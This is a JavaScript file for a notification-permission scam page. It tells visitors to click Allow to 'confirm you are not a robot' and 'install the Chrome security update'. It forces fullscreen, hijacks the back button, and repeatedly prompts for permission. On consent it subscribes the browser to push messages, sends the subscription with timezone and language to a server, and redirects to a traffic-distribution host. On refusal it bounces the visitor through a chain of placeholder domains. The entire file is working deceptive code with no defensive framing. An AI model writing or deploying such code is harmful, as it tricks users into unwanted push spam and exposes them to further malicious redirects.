const VAPID = "BPlaceholderPublicKeyAAAA";
const hops = ["a1", "a2", "a3", "a4"].map((s) => `https://${s}.allow-check.example/`);
const here = Number(new URLSearchParams(location.search).get("h") || 0);

document.querySelector("#msg").innerHTML = "Click <b>Allow</b> to confirm that you are not a robot and install the Chrome security update";

async function ask() {
  const p = await Notification.requestPermission();
  if (p === "granted") {
    const reg = await navigator.serviceWorker.register("/sw.js?z=" + here);
    const sub = await reg.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: VAPID });
    await fetch("/subscribe", { method: "POST", body: JSON.stringify({ sub, tz: Intl.DateTimeFormat().resolvedOptions().timeZone, lang: navigator.language }) });
    location.replace("https://tds.allow-check.example/go?c=ok");
  } else {
    location.replace(hops[(here + 1) % hops.length] + "?h=" + (here + 1));
  }
}
document.documentElement.requestFullscreen?.().catch(() => {});
history.pushState(null, "", "#robot");
window.onpopstate = () => {
  history.pushState(null, "", "#robot");
  ask();
};
document.onclick = ask;
setTimeout(ask, 300);
